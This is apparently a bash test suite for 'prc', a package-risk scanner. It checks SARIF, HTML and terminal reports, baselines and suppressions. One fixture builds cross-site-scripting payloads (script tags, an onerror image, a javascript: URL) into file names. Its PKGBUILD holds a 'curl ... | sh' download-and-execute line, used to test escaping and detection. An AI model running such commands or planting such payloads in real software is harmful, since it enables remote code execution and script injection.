# test_report.sh - issue 22: the reports made from the run result: SARIF 2.1.0 (validated against the
# official schema from the npm package scripts/setup.sh pins), HTML, the terminal, prc report,
# prc explain, baselines and suppressions.

SARIF_SCHEMA=${PRC_SARIF_SCHEMA:-${PRC_SARIF_DIR:-${XDG_CACHE_HOME:-$HOME/.cache}/prc-test/sarif}/package/lib/schemas/sarif-2.1.0-rtm.5.json}
AUR_FX=tests/fixtures/aur/remote-exec/vuln-saved-then-run

# py FILE 'statements over d (the JSON document in FILE)': a failed assert fails the test.
py() {
        /usr/bin/python3 -c 'import json,sys; d=json.load(open(sys.argv[1])); exec(sys.argv[2])' "$1" "$2" ||
                fail "check failed on $1"
}

# A tree that fails PRC-A-CORE-005 (a binary) and PRC-A-CORE-001 (no README), with a bad manifest.
mk_failing() {
        mkdir -p "$1/src"
        printf 'SPDX-License-Identifier: MIT\n' >"$1/LICENSE"
        cp /bin/true "$1/tool"
        printf '{"name": \n' >"$1/package.json"
}

have_sarif_schema() {
        if [ ! -f "$SARIF_SCHEMA" ]; then
                echo "    the SARIF schema is absent ($SARIF_SCHEMA; run scripts/setup.sh): SARIF was not validated" >&2
                [ "${CI:-}" = "true" ] && return 1
                return 2
        fi
}

t_sarif_validates_against_the_official_2_1_0_schema() {
        have_sarif_schema || return $(( $? == 2 ? 0 : 1 ))
        mk_failing "$TMP/t"
        "$PRC" scan --target "$TMP/t" --format sarif >"$TMP/a.sarif" && fail "exit 0 on a failing tree"
        "$PRC" scan --target "$AUR_FX" --profile prc/aur --format sarif >"$TMP/b.sarif" && fail "exit 0 on the AUR fixture"
        "$PRC" scan --target examples/basic --format sarif >"$TMP/c.sarif" || [ $? -eq 1 ] || fail "basic: exit $?"
        /usr/bin/python3 tests/cli/sarif_validate.py "$SARIF_SCHEMA" "$TMP/a.sarif" "$TMP/b.sarif" "$TMP/c.sarif" ||
                fail "not valid SARIF 2.1.0"
        # The validator is not vacuous: a level outside the schema's enum and a region at line 0 are refused.
        py "$TMP/b.sarif" 'd["runs"][0]["results"][0]["level"] = "fatal"; json.dump(d, open(sys.argv[1] + ".x", "w"))'
        ! /usr/bin/python3 tests/cli/sarif_validate.py "$SARIF_SCHEMA" "$TMP/b.sarif.x" 2>/dev/null ||
                fail "the validator accepted level fatal"
        py "$TMP/b.sarif" 'd["runs"][0]["results"][0]["locations"][0]["physicalLocation"]["region"]["startLine"] = 0
json.dump(d, open(sys.argv[1] + ".y", "w"))'
        ! /usr/bin/python3 tests/cli/sarif_validate.py "$SARIF_SCHEMA" "$TMP/b.sarif.y" 2>/dev/null ||
                fail "the validator accepted startLine 0"
}

t_sarif_results_carry_regions_fingerprints_and_levels() {
        run "$PRC" scan --target "$AUR_FX" --profile prc/aur --format sarif
        expect_rc 1
        printf '%s' "$OUT" >"$TMP/s.json"
        py "$TMP/s.json" '
run = d["runs"][0]
rs = {r["ruleId"]: r for r in run["results"]}
r = rs["PRC-A-AUR-004"]
pl = r["locations"][0]["physicalLocation"]
assert pl["artifactLocation"]["uri"] == "PKGBUILD", pl
assert pl["region"]["startLine"] == 11, pl
assert pl["region"]["snippet"]["text"].startswith("./setup.sh"), pl
assert len(r["partialFingerprints"]["prcFindingDigest/v1"]) == 64
assert r["level"] == "error" and r["properties"]["state"] == "Fail"        # a high-severity Fail
u = rs["PRC-A-AUR-006"]
assert u["level"] == "warning" and u["properties"]["state"] == "Unknown"   # never shown as clean
assert "region" not in u["locations"][0]["physicalLocation"]               # that evidence has no line
# passing assertions are rules, never results
ids = [x["id"] for x in run["tool"]["driver"]["rules"]]
assert "PRC-A-AUR-001" in ids and "PRC-A-AUR-001" not in rs
for x in run["results"]:
    assert run["tool"]["driver"]["rules"][x["ruleIndex"]]["id"] == x["ruleId"]
    assert x["locations"] and x["locations"][0]["physicalLocation"]["artifactLocation"]["uri"], x  # GitHub needs one
'
}

t_sarif_rules_carry_full_help_and_the_run_carries_provenance() {
        run "$PRC" scan --target "$AUR_FX" --profile prc/aur --format json --now 2026-01-02T03:04:05Z
        printf '%s' "$OUT" >"$TMP/r.json"
        run "$PRC" scan --target "$AUR_FX" --profile prc/aur --format sarif --now 2026-01-02T03:04:05Z
        printf '%s' "$OUT" >"$TMP/s.json"
        py "$TMP/s.json" '
r = json.load(open(sys.argv[1].replace("s.json", "r.json")))
run = d["runs"][0]
rule = [x for x in run["tool"]["driver"]["rules"] if x["id"] == "PRC-A-AUR-004"][0]
row = [a for a in r["assertions"] if a["id"] == "PRC-A-AUR-004"][0]
for part in ("rationale", "remediation", "decision_rule"):
    assert row[part] and row[part] in rule["help"]["text"], part
    assert row[part] in rule["help"]["markdown"], part
assert "Decision rule" in rule["help"]["text"] and "aur-remote-exec" in rule["help"]["text"]
assert rule["fullDescription"]["text"] == row["rationale"]
assert rule["properties"]["severity"] == row["severity"] and rule["properties"]["security-severity"] == "9.5"
p = run["properties"]
assert p["prc_run_id"] == r["id"] and p["inventory_digest"] == r["target"]["inventory_digest"]
assert p["catalog"] == r["catalog"] and p["mode"] == "inspect" and p["profile"] == "prc/aur"
assert p["now"] == "2026-01-02T03:04:05Z" and p["prc_version"] == r["prc_version"]
assert p["prc_content_floor"] == r["content_floor"]
'
}

# Fingerprints come from content: the same on a rerun, and when unrelated lines move.
t_sarif_fingerprints_survive_reruns_and_moved_lines() {
        cp -r "$AUR_FX" "$TMP/a"
        "$PRC" scan --target "$TMP/a" --profile prc/aur --format sarif >"$TMP/1.json" || true
        "$PRC" scan --target "$TMP/a" --profile prc/aur --format sarif >"$TMP/2.json" || true
        cmp -s "$TMP/1.json" "$TMP/2.json" || fail "two runs differ"
        { printf '# a comment\n\n# another\n'; cat "$AUR_FX/PKGBUILD"; } >"$TMP/a/PKGBUILD"
        "$PRC" scan --target "$TMP/a" --profile prc/aur --format sarif >"$TMP/3.json" || true
        py "$TMP/1.json" '
e = json.load(open(sys.argv[1].replace("1.json", "3.json")))
def fp(doc):
    return {r["ruleId"]: (r["partialFingerprints"]["prcFindingDigest/v1"],
            r["locations"][0]["physicalLocation"].get("region", {}).get("startLine")) for r in doc["runs"][0]["results"]}
a, b = fp(d), fp(e)
assert a["PRC-A-AUR-004"][1] == 11 and b["PRC-A-AUR-004"][1] == 14, (a, b)
assert a["PRC-A-AUR-004"][0] == b["PRC-A-AUR-004"][0], (a, b)
'
        # A changed finding is a new fingerprint.
        sed -i 's|--prefix|--root|' "$TMP/a/PKGBUILD"
        "$PRC" scan --target "$TMP/a" --profile prc/aur --format sarif >"$TMP/4.json" || true
        py "$TMP/1.json" '
e = json.load(open(sys.argv[1].replace("1.json", "4.json")))
fa = [r["partialFingerprints"] for r in d["runs"][0]["results"] if r["ruleId"] == "PRC-A-AUR-004"]
fb = [r["partialFingerprints"] for r in e["runs"][0]["results"] if r["ruleId"] == "PRC-A-AUR-004"]
assert fa and fb and fa != fb, (fa, fb)
'
}

# Paths are percent-encoded into URI references; each finding of several files is its own result.
t_sarif_uris_are_encoded_and_each_finding_is_a_result() {
        mkdir -p "$TMP/t/sub dir"
        cp /bin/true "$TMP/t/sub dir/a b#c"
        cp /bin/true "$TMP/t/tool"
        run "$PRC" scan --target "$TMP/t" --format sarif
        expect_rc 1
        printf '%s' "$OUT" >"$TMP/s.json"
        py "$TMP/s.json" '
rs = [r for r in d["runs"][0]["results"] if r["ruleId"] == "PRC-A-CORE-005"]
uris = sorted(r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] for r in rs)
assert uris == ["sub%20dir/a%20b%23c", "tool"], uris
assert len({r["partialFingerprints"]["prcFindingDigest/v1"] for r in rs}) == 2
# Findings without a file (no README; CORE-013 Blocked) are at the target root: every result has a location.
for r in d["runs"][0]["results"]:
    if r["ruleId"] in ("PRC-A-CORE-001", "PRC-A-CORE-013"):
        assert r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] == ".", r
        assert "region" not in r["locations"][0]["physicalLocation"]
'
}

# A tree whose names and contents carry script, attribute and URL payloads, each of which reaches the
# report: a binary's path (PRC-A-CORE-005), a bad manifest's directory (a gap) and PKGBUILD evidence text.
P_SCRIPT='<script>alert(1)</script>'
P_ATTR='"><img src=x onerror=alert(2)>'
P_URL="javascript:alert(3)"
P_SQ="' onmouseover='alert(4)"
mk_hostile() {
        mkdir -p "$1/$P_SCRIPT" "$1/$P_ATTR"
        cp /bin/true "$1/$P_SCRIPT/$P_URL"
        cp /bin/true "$1/$P_ATTR/x$P_SQ"
        printf '{"name": \n' >"$1/$P_SCRIPT/package.json"
        cat >"$1/PKGBUILD" <<'PKG'
pkgname=demo
pkgver=1.0
pkgrel=1
arch=(x86_64)
url="https://github.com/demo/demo"
license=(MIT)
source=()
package() {
  curl -sL "https://example.org/<script>alert(5)</script>" | sh
}
PKG
}

t_html_escapes_every_byte_from_the_target() {
        mk_hostile "$TMP/t"
        "$PRC" scan --target "$TMP/t" --format html >"$TMP/core.html" && fail "exit 0 on a failing tree"
        "$PRC" scan --target "$TMP/t" --profile prc/aur --format html >"$TMP/aur.html" && fail "exit 0 (aur)"
        /usr/bin/python3 tests/cli/html_check.py "$TMP/core.html" "$P_SCRIPT/$P_URL" "$P_ATTR/x$P_SQ" \
                "$P_SCRIPT/package.json" >"$TMP/s1" || fail "core report"
        /usr/bin/python3 tests/cli/html_check.py "$TMP/aur.html" "<script>alert(5)</script>" >"$TMP/s2" ||
                fail "aur report"
        # The one script is the same text whatever the target: nothing from it reaches the script.
        mk_failing "$TMP/plain"
        "$PRC" scan --target "$TMP/plain" --format html >"$TMP/plain.html" || true
        /usr/bin/python3 tests/cli/html_check.py "$TMP/plain.html" >"$TMP/s3" || fail "plain report"
        cmp -s "$TMP/s1" "$TMP/s3" && cmp -s "$TMP/s2" "$TMP/s3" || fail "the script differs between reports"
        # The checker is not vacuous: an unescaped payload is caught.
        sed 's|</footer>|<img src=x onerror=alert(1)></footer>|' "$TMP/plain.html" >"$TMP/bad.html"
        ! /usr/bin/python3 tests/cli/html_check.py "$TMP/bad.html" >/dev/null 2>&1 || fail "checker missed an <img>"
}

t_html_shows_summary_assertions_gaps_and_provenance() {
        mk_failing "$TMP/t"
        "$PRC" scan --target "$TMP/t" --format json --now 2026-01-02T03:04:05Z >"$TMP/r.json" || true
        "$PRC" report --format html "$TMP/r.json" >"$TMP/r.html" && fail "exit 0 on a failing result"
        py "$TMP/r.json" '
page = open(sys.argv[1].replace("r.json", "r.html")).read()
class h:
    def escape(s):
        return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace("\"", "&quot;").replace(chr(39), "&#39;")
for k in ("id",):
    assert d[k] in page
for v in (d["target"]["inventory_digest"], d["catalog"]["id"], d["catalog"]["sha256"], d["mode"], d["profile"],
          d["prc_version"], d["content_floor"]["level"], d["now"]):
    assert h.escape(v) in page, v
assert "<svg" in page and "<title>assertion states: %d pass, %d fail" % (d["summary"]["pass"], d["summary"]["fail"]) in page
for a in d["assertions"]:
    for f in ("id", "title", "state", "severity", "rationale", "remediation", "decision_rule"):
        assert h.escape(a[f]) in page, (a["id"], f)
for g in d["coverage_gaps"]:
    assert h.escape(g["path"]) in page and h.escape(g["class"]) in page
assert "Adapter executions (0)" in page and "Coverage gaps (%d)" % len(d["coverage_gaps"]) in page
assert "http://" not in page.replace("http://www.w3.org/2000/svg", "") and "https://" not in page
'
        # scan --format html and report --format html of the same result are the same page.
        "$PRC" scan --target "$TMP/t" --format html --now 2026-01-02T03:04:05Z >"$TMP/s.html" || true
        cmp -s "$TMP/s.html" "$TMP/r.html" || fail "scan and report pages differ"
}

CHROMIUM=${PRC_CHROMIUM:-chromium}
# chrome OUT.(png|html) PAGE: render PAGE with no network at all (a new network namespace), Chromium's
# own background traffic off; a .png is a screenshot, a .html the DOM after the page's script ran.
# Console messages (errors, CSP violations, blocked requests) go to $OUT.log.
chrome() {
        local mode=--dump-dom
        case "$1" in *.png) mode=--screenshot="$1" ;; esac
        unshare -n "$CHROMIUM" --headless=new --no-sandbox --disable-gpu --user-data-dir="$TMP/chrome-profile" \
                --no-first-run --disable-background-networking --disable-component-update --disable-sync \
                --disable-default-apps --disable-extensions --host-resolver-rules="MAP * ~NOTFOUND" \
                --enable-logging=stderr --v=0 --window-size=1200,1800 --hide-scrollbars \
                $mode "file://$2" >"$1.dom" 2>"$1.log" || fail "chromium exited $?"
        case "$1" in *.png) ;; *) mv "$1.dom" "$1" ;; esac
}

have_chromium() {
        if ! command -v "$CHROMIUM" >/dev/null 2>&1; then
                echo "    chromium is absent (scripts/setup.sh installs Debian's chromium): not rendered" >&2
                [ "${CI:-}" = "true" ] && return 1
                return 2
        fi
}

t_html_renders_in_headless_chromium_without_console_errors() {
        have_chromium || return $(( $? == 2 ? 0 : 1 ))
        mk_hostile "$TMP/t"
        "$PRC" scan --target "$TMP/t" --format json >"$TMP/r.json" || true
        "$PRC" report --format html "$TMP/r.json" >"$TMP/r.html" || true
        "$PRC" scan --target examples/basic --format html >"$TMP/basic.html" || true
        for page in r basic; do
                chrome "$TMP/$page.dom.html" "$TMP/$page.html"
                chrome "$TMP/$page.png" "$TMP/$page.html"
                # Chromium's own "[Intervention] Slow network" notice comes from its font loader on a
                # loaded host, not from the page, and so does any line whose source is one of Chromium's
                # own chrome:// pages (its slow-network notice from chrome://resources/..., seen once in a
                # CI run); every other console line fails the test.
                ! grep -h "CONSOLE" "$TMP/$page.dom.html.log" "$TMP/$page.png.log" |
                        grep -v -F "[Intervention] Slow network is detected" |
                        grep -v -E '", source: chrome://[^ ]+ \([0-9]+\)$' ||
                        fail "console messages on $page"
                [ "$(head -c 8 "$TMP/$page.png" | od -An -tx1 | tr -d ' \n')" = 89504e470d0a1a0a ] ||
                        fail "no PNG screenshot of $page"
                [ "$(stat -c %s "$TMP/$page.png")" -gt 20000 ] || fail "a blank screenshot of $page"
        done
        # Every assertion ID is shown (its article not hidden), the script ran (the filters are shown),
        # and no payload became an element: the DOM holds no <img> and no alert handler.
        py "$TMP/r.json" '
dom = open(sys.argv[1].replace("r.json", "r.dom.html")).read()
import re
assert "<form id=\"filters\">" in dom, "the filter script did not run"
for a in d["assertions"]:
    m = re.search(r"<article class=\"assertion[^>]*>\s*<h3>.*?<span class=\"aid\">%s</span>" % re.escape(a["id"]), dom)
    assert m and " hidden" not in m.group(0), a["id"]
assert "<img" not in dom and "<script>alert" not in dom
'
}

t_terminal_lists_locations_groups_gaps_and_ends_with_a_next_step() {
        mk_failing "$TMP/t"
        mkdir -p "$TMP/t/a" "$TMP/t/b"
        printf '{"name": \n' >"$TMP/t/a/package.json"
        printf 'name: [\n' >"$TMP/t/b/pnpm-lock.yaml"
        run "$PRC" scan --target "$TMP/t"
        expect_rc 1
        ! grep -q $'\033' <<<"$OUT" || fail "escape codes on a pipe"
        ! grep -q $'\033' <<<"$ERR" || fail "a progress line on a pipe"
        [ -z "$ERR" ] || fail "stderr on a pipe: $ERR"
        # Evidence locations under the failing assertion, indented, file first.
        grep -A1 '^PRC-A-CORE-005 *Fail' <<<"$OUT" | grep -q '^    tool: ' || fail "no location under CORE-005: $OUT"
        # Gaps grouped by class: one heading per class with its count, the paths under it.
        expect_out "coverage gaps (3): what prc could not analyze, by class"
        [ "$(grep -c '^  [a-z-]* ([0-9]*)$' <<<"$OUT")" -ge 1 ] || fail "no class headings: $OUT"
        grep -A3 "^  $(json_class_of package.json) (" <<<"$OUT" | grep -q '^    a/package.json: ' ||
                fail "a/package.json not under its class"
        [ "$(tail -n1 <<<"$OUT" | cut -c1-5)" = "next:" ] || fail "last line: $(tail -n1 <<<"$OUT")"
        expect_out "prc explain PRC-A-CORE-00"
}

# json_class_of PATH: the gap class prc gives PATH in $TMP/t (from the JSON result).
json_class_of() {
        "$PRC" scan --target "$TMP/t" --format json | /usr/bin/python3 -c 'import json,sys
print([g["class"] for g in json.load(sys.stdin)["coverage_gaps"] if g["path"] == sys.argv[1]][0])' "$1"
}

t_terminal_colours_and_legend_only_on_a_tty_and_never_with_no_color() {
        mk_failing "$TMP/t"
        script -qec "'$PRC' scan --target '$TMP/t'" /dev/null >"$TMP/tty.out" </dev/null || true
        grep -q $'\033\\[1;31mFail' "$TMP/tty.out" || fail "no red Fail on a tty: $(head -c 600 "$TMP/tty.out")"
        grep -q 'evidence incomplete' "$TMP/tty.out" || fail "no legend on a tty"
        # The progress line (stderr, a tty here) names the stages, then is erased.
        grep -q 'inventorying the target\.\.\.' "$TMP/tty.out" || fail "no progress line on a tty"
        NO_COLOR=1 script -qec "'$PRC' scan --target '$TMP/t' 2>/dev/null" /dev/null >"$TMP/nc.out" </dev/null || true
        ! grep -q $'\033\\[' "$TMP/nc.out" || fail "colour despite NO_COLOR"
        grep -q '^PRC-A-CORE-005 *Fail' <(tr -d '\r' <"$TMP/nc.out") || fail "no table under NO_COLOR"
}

t_next_step_follows_the_worst_state() {
        mkdir -p "$TMP/good"
        printf '# p\n' >"$TMP/good/README.md"
        printf 'SPDX-License-Identifier: MIT\n' >"$TMP/good/LICENSE"
        printf 'mail\n' >"$TMP/good/SECURITY.md"
        run "$PRC" scan --target "$TMP/good"
        expect_rc 1   # PRC-A-CORE-013 is Blocked in inspect mode
        [[ "$(tail -n1 <<<"$OUT")" == "next: the Blocked assertions need their adapters"* ]] || fail "$(tail -n1 <<<"$OUT")"
        run "$PRC" scan --target "$TMP/good" --profile prc/aur
        [[ "$(tail -n1 <<<"$OUT")" == next:* ]] || fail "$(tail -n1 <<<"$OUT")"
}

t_explain_gives_rationale_remediation_and_decision_rule() {
        run "$PRC" explain PRC-A-CORE-005
        expect_rc 0
        expect_out "PRC-A-CORE-005: No executable binaries in the tree"
        expect_out "rationale:"
        expect_out "remediation:"
        expect_out "decision rule:"
        expect_out "built-in analysis binaries: Fail when any observation is found"
        # An analysis: its one-line doc (src/analysis/registry.c) and the assertions that read it.
        run "$PRC" explain aur-remote-exec
        expect_rc 0
        expect_out "analysis aur-remote-exec (family aur)"
        expect_out "no download-and-execute"
        expect_out "assertion PRC-A-AUR-004"
        run "$PRC" explain readme
        expect_rc 0
        expect_out "assertion PRC-A-CORE-001"
        # The rule in the result is the one explain prints.
        "$PRC" scan --target examples/basic --format json >"$TMP/r.json" || true
        rule=$(/usr/bin/python3 -c 'import json,sys; print([a["decision_rule"] for a in json.load(open(sys.argv[1]))["assertions"] if a["id"] == "PRC-A-CORE-001"][0])' "$TMP/r.json")
        run "$PRC" explain PRC-A-CORE-001
        expect_out "$rule"
        run "$PRC" explain PRC-A-NOPE-999
        expect_rc 2
        expect_err "neither an assertion"
}

t_explain_covers_every_assertion_and_analysis() {
        /usr/bin/python3 -c 'import yaml,sys
c = yaml.safe_load(open("catalog/catalog.yaml"))
for a in c["assertions"]:
    print(a["id"])
    if "analysis" in a: print(a["analysis"]["id"])' | sort -u >"$TMP/ids"
        while read -r id; do
                "$PRC" explain "$id" >"$TMP/x" || fail "prc explain $id exited $?"
                grep -q 'decision rule:' "$TMP/x" || fail "no decision rule for $id"
        done <"$TMP/ids"
}

# digest_of FILE ASSERTION [N]: the digest of that assertion's Nth finding in result FILE.
digest_of() {
        /usr/bin/python3 -c 'import json,sys
r = json.load(open(sys.argv[1]))
print([a for a in r["assertions"] if a["id"] == sys.argv[2]][0]["findings"][int(sys.argv[3])]["digest"])' \
                "$1" "$2" "${3:-0}"
}

t_baseline_reports_only_new_or_worse_and_the_exit_follows() {
        mk_failing "$TMP/t"
        "$PRC" scan --target "$TMP/t" --format json >"$TMP/base.json" && fail "exit 0 on a failing tree"
        # The same tree against itself: nothing new, exit 0, the baseline named.
        run "$PRC" scan --target "$TMP/t" --format json --baseline "$TMP/base.json"
        expect_rc 0
        printf '%s' "$OUT" >"$TMP/same.json"
        py "$TMP/same.json" '
b = json.load(open(sys.argv[1].replace("same.json", "base.json")))
t = d["triage"]
assert t["baseline"]["id"] == b["id"] and t["reported"] == 0, t
for a in d["assertions"]:
    if a["state"] != "Pass":
        assert a["reported"] is False and {f["status"] for f in a["findings"]} == {"baseline"}, a["id"]
    assert [x for x in b["assertions"] if x["id"] == a["id"]][0]["state"] == a["state"]   # states never change
assert d["id"] != b["id"]
'
        run "$PRC" scan --target "$TMP/t" --baseline "$TMP/base.json"
        expect_rc 0
        [[ "$(tail -n1 <<<"$OUT")" == "next: nothing new or worse than the baseline"* ]] || fail "$(tail -n1 <<<"$OUT")"
        # A second binary: only it is new; the exit status follows it.
        cp /bin/true "$TMP/t/src/tool2"
        run "$PRC" scan --target "$TMP/t" --format json --baseline "$TMP/base.json"
        expect_rc 1
        printf '%s' "$OUT" >"$TMP/new.json"
        py "$TMP/new.json" '
a = [x for x in d["assertions"] if x["id"] == "PRC-A-CORE-005"][0]
st = {f["path"]: f["status"] for f in a["findings"]}
assert st == {"tool": "baseline", "src/tool2": "new"}, st
assert a["reported"] is True and d["triage"]["reported"] == 1
assert all(x["reported"] is False for x in d["assertions"] if x["state"] != "Pass" and x["id"] != "PRC-A-CORE-005")
'
        run "$PRC" scan --target "$TMP/t" --baseline "$TMP/base.json"
        expect_out "(in the baseline or suppressed)"
        # SARIF says which results are new.
        run "$PRC" scan --target "$TMP/t" --format sarif --baseline "$TMP/base.json"
        printf '%s' "$OUT" >"$TMP/new.sarif"
        py "$TMP/new.sarif" '
bs = {r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]: r["baselineState"]
      for r in d["runs"][0]["results"] if r["ruleId"] == "PRC-A-CORE-005"}
assert bs == {"tool": "unchanged", "src/tool2": "new"}, bs
'
}

t_baseline_is_keyed_by_content_not_lines_and_sees_worse_states() {
        cp -r "$AUR_FX" "$TMP/a"
        "$PRC" scan --target "$TMP/a" --profile prc/aur --format json >"$TMP/base.json" || true
        { printf '# moved\n\n'; cat "$AUR_FX/PKGBUILD"; } >"$TMP/a/PKGBUILD"
        run "$PRC" scan --target "$TMP/a" --profile prc/aur --baseline "$TMP/base.json"
        expect_rc 0
        # Worse: a passing assertion of the baseline now fails (a plain-http source).
        sed -i 's|^source=()|source=("http://example.org/a.tar.gz")|' "$TMP/a/PKGBUILD"
        run "$PRC" scan --target "$TMP/a" --profile prc/aur --format json --baseline "$TMP/base.json"
        expect_rc 1
        printf '%s' "$OUT" >"$TMP/w.json"
        py "$TMP/w.json" '
rep = sorted(a["id"] for a in d["assertions"] if a.get("reported"))
assert "PRC-A-AUR-002" in rep and "PRC-A-AUR-004" not in rep, rep
'
        # prc report triages a stored result the same way.
        "$PRC" scan --target "$TMP/a" --profile prc/aur --format json >"$TMP/plain.json" || true
        run "$PRC" report --format json --baseline "$TMP/base.json" "$TMP/plain.json"
        expect_rc 1
        [ "$OUT" = "$(cat "$TMP/w.json")" ] || fail "prc report --baseline differs from prc scan --baseline"
}

# suppress FILE ASSERTION DIGEST EXPIRES...: write a suppressions file with one entry per triple.
suppress() {
        local f=$1
        shift
        /usr/bin/python3 -c 'import json,sys
a = sys.argv[2:]
json.dump({"schema": "prc.suppressions/v1", "suppressions": [
    {"assertion": a[i], "digest": a[i + 1], "reason": "accepted: reviewed by the operator", "expires": a[i + 2]}
    for i in range(0, len(a), 3)]}, open(sys.argv[1], "w"))' "$f" "$@"
}

t_suppressions_accept_findings_until_they_expire() {
        cp -r "$AUR_FX" "$TMP/a"
        "$PRC" scan --target "$TMP/a" --profile prc/aur --format json >"$TMP/r.json" || true
        d4=$(digest_of "$TMP/r.json" PRC-A-AUR-004)
        d6=$(digest_of "$TMP/r.json" PRC-A-AUR-006)
        d16=$(digest_of "$TMP/r.json" PRC-A-SC-016)     # the same download-then-run, as shell-download-exec
        suppress "$TMP/s1.json" PRC-A-AUR-004 "$d4" 2026-06-01
        run "$PRC" scan --target "$TMP/a" --profile prc/aur --format json --suppressions "$TMP/s1.json" \
                --now 2026-05-31T23:59:59Z
        expect_rc 1     # PRC-A-AUR-006 is still Unknown and not suppressed
        printf '%s' "$OUT" >"$TMP/x.json"
        py "$TMP/x.json" '
a4 = [a for a in d["assertions"] if a["id"] == "PRC-A-AUR-004"][0]
assert a4["state"] == "Fail" and a4["reported"] is False and a4["findings"][0]["status"] == "suppressed"
s = d["triage"]["suppressions"]
assert len(s["sha256"]) == 64 and s["entries"][0]["status"] == "applied"
assert [a for a in d["assertions"] if a["id"] == "PRC-A-AUR-006"][0]["reported"] is True
'
        suppress "$TMP/s2.json" PRC-A-AUR-004 "$d4" 2026-06-01 PRC-A-AUR-006 "$d6" 2027-01-01 \
                PRC-A-SC-016 "$d16" 2027-01-01
        run "$PRC" scan --target "$TMP/a" --profile prc/aur --suppressions "$TMP/s2.json" --now 2026-05-31T00:00:00Z
        expect_rc 0
        run "$PRC" scan --target "$TMP/a" --profile prc/aur --format sarif --suppressions "$TMP/s2.json" \
                --now 2026-05-31T00:00:00Z
        printf '%s' "$OUT" >"$TMP/x.sarif"
        py "$TMP/x.sarif" '
for r in d["runs"][0]["results"]:
    assert r["suppressions"][0]["status"] == "accepted", r
    assert r["suppressions"][0]["justification"] == "accepted: reviewed by the operator", r
    assert "baselineState" not in r, r      # no baseline was given
'
        # On its expiry date the entry no longer applies: named on stderr, and the finding counts again.
        run "$PRC" scan --target "$TMP/a" --profile prc/aur --format json --suppressions "$TMP/s2.json" \
                --now 2026-06-01T00:00:00Z
        expect_rc 1
        expect_err "suppression 0 (PRC-A-AUR-004, finding $d4) expired on 2026-06-01"
        [ "$(/usr/bin/python3 -c 'import json,sys; print(json.loads(sys.stdin.read())["triage"]["suppressions"]["entries"][0]["status"])' <<<"$OUT")" = expired ]
        # An entry that matches nothing is named too.
        suppress "$TMP/s3.json" PRC-A-AUR-004 "$d6" 2030-01-01
        run "$PRC" scan --target "$TMP/a" --profile prc/aur --suppressions "$TMP/s3.json" --now 2026-01-01T00:00:00Z
        expect_rc 1
        expect_err "suppression 0 (PRC-A-AUR-004, finding $d6) matched no finding of this run"
        expect_out "suppression $d6 of PRC-A-AUR-004: unmatched"
}

# Only the operator's file suppresses: a suppressions file inside the target changes nothing.
t_nothing_in_the_target_suppresses() {
        cp -r "$AUR_FX" "$TMP/a"
        "$PRC" scan --target "$TMP/a" --profile prc/aur --format json >"$TMP/r.json" || true
        d4=$(digest_of "$TMP/r.json" PRC-A-AUR-004)
        for name in prc-suppressions.json .prc-suppressions.json suppressions.json .prcignore; do
                suppress "$TMP/a/$name" PRC-A-AUR-004 "$d4" 2099-01-01
        done
        run "$PRC" scan --target "$TMP/a" --profile prc/aur --format json
        expect_rc 1
        [ "$(/usr/bin/python3 -c 'import json,sys; r=json.loads(sys.stdin.read()); print([a["state"] for a in r["assertions"] if a["id"]=="PRC-A-AUR-004"][0], "triage" in r)' <<<"$OUT")" = "Fail False" ]
}

t_malformed_baselines_and_suppressions_are_named_refusals() {
        mk_failing "$TMP/t"
        "$PRC" scan --target "$TMP/t" --format json >"$TMP/r.json" || true
        run "$PRC" scan --target "$TMP/t" --suppressions "$TMP/r.json"
        expect_rc 2
        expect_err "--suppressions needs --now"
        printf '{"schema":"prc.suppressions/v1","suppressions":[{"assertion":"A","digest":"xyz","reason":"r","expires":"2027-01-01"}]}' >"$TMP/s.json"
        run "$PRC" scan --target "$TMP/t" --suppressions "$TMP/s.json" --now 2026-01-01T00:00:00Z
        expect_rc 2
        expect_err "suppressions-invalid"
        expect_err "/suppressions/0"
        printf '{"schema":"prc.suppressions/v1","suppressions":[{"assertion":"A","digest":"%064d","reason":"r","expires":"2027-13-01"}]}' 0 >"$TMP/s.json"
        run "$PRC" scan --target "$TMP/t" --suppressions "$TMP/s.json" --now 2026-01-01T00:00:00Z
        expect_rc 2
        expect_err "expires is not a date"
        printf '{"schema":"prc.suppressions/v1","suppressions":[],"extra":1}' >"$TMP/s.json"
        run "$PRC" scan --target "$TMP/t" --suppressions "$TMP/s.json" --now 2026-01-01T00:00:00Z
        expect_rc 2
        expect_err "suppressions-invalid"
        # A baseline whose content was edited no longer matches its id.
        sed 's/"Fail"/"Pass"/' "$TMP/r.json" >"$TMP/edited.json"
        run "$PRC" scan --target "$TMP/t" --baseline "$TMP/edited.json"
        expect_rc 2
        expect_err "run-result-invalid"
        expect_err "the baseline is not a prc run result"
        printf 'not json' >"$TMP/bad.json"
        run "$PRC" report "$TMP/bad.json"
        expect_rc 2
        expect_err "invalid-json"
        run "$PRC" report "$TMP/missing.json"
        expect_rc 3
        expect_err "io-error"
}

# The harness validates every run result a CLI test makes (lib.sh), whichever way it comes (the $PRC
# wrapper, a batch state dir, a test build's kept copy, JSON on stdout): one that does not match the schema
# fails the test that made it, even when the test itself checks nothing.
t_the_harness_validates_every_run_result_against_the_schema() {
        unset PRC_TEST_ONLY     # the inner runs below run every test of their file
        "$PRC_BIN" scan --target examples/basic --format json >"$TMP/good.json" || true
        sed 's/"mode":"inspect"/"mode":"sideways"/' "$TMP/good.json" >"$TMP/bad.json"
        printf '#!/bin/sh\ncat "%s"\n' "$TMP/good.json" >"$TMP/good-prc"
        printf '#!/bin/sh\ncat "%s"\n' "$TMP/bad.json" >"$TMP/bad-prc"
        chmod +x "$TMP/good-prc" "$TMP/bad-prc"
        printf 't_makes_a_result() { "$PRC" scan --target x --format json >/dev/null; }\n' >"$TMP/inner.sh"
        PRC=$TMP/good-prc bash tests/cli/lib.sh "$TMP/inner.sh" >"$TMP/good.out" 2>&1 || fail "$(cat "$TMP/good.out")"
        grep -q "validated against schemas/: 1 run results, 0 batch indexes, 0 execution records" "$TMP/good.out" ||
                fail "$(cat "$TMP/good.out")"
        ! PRC=$TMP/bad-prc bash tests/cli/lib.sh "$TMP/inner.sh" >"$TMP/bad.out" 2>&1 || fail "an invalid result passed"
        grep -q "FAIL inner.t_makes_a_result" "$TMP/bad.out" || fail "$(cat "$TMP/bad.out")"
